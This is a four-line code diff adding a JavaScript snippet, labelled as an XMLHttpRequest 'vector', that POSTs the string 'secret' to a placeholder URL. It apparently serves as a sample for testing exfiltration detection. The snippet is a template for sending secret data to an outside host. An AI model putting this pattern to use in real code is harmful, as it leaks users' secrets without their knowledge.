@@ -1,0 +1,4 @@
+// vector: XMLHttpRequest
+const request = new XMLHttpRequest();
+request.open("POST", "$URL");
+request.send("secret");
